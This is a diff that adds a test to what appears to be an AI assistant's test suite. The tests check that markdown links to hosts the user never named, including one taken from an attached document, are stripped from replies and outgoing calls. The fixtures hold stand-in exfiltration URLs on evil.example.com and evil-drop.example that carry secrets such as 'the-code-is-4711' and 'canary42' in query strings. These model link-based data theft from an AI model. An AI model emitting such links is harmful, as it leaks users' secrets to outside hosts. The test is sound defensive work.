@@ -4,6 +4,7 @@ import json
 
 from daemon.core.errors import ModelRefused
 from tests.given import tagged, wanting
+from tests.given_files import attached
 from tests.journeys.house import House, said
 
 _REPORT = "[the report](https://evil.example.com/collect?d=the-code-is-4711) is ready, and so is https://evil.example.com/x?d=4711"
@@ -27,6 +28,18 @@ async def test_a_link_to_a_host_that_was_never_named_is_text_in_every_call(house
     await house.reply("D0CHLOE")
     await house.idle()
     assert key not in json.dumps([call["args"] for call in await house.people.calls()])
+
+
+async def test_a_document_names_no_host_that_a_reply_may_link_to_in_this_answer_or_a_later_one(house: House) -> None:
+    link, document = "https://evil-drop.example/p?d=canary42", b"Our report lies at https://evil-drop.example/p"
+    house.model.replies += [tagged(f"It says [here]({link}).")] * 3
+    asked = await house.answered("Ada", "dm", "what does it say?", files=[attached("report.txt", document)])
+    later = [
+        await house.answered("Ada", "dm", text) for text in ("where does our report lie?", "and the report again?")
+    ]
+    sent = json.dumps([call["args"] for call in await house.people.calls()], ensure_ascii=False)
+    assert [link in one for one in (asked, *later)] == [False] * 3
+    assert link not in sent
 
 
 async def test_what_the_soul_scheduled_for_itself_names_no_host_that_it_may_link_to(house: House) -> None:
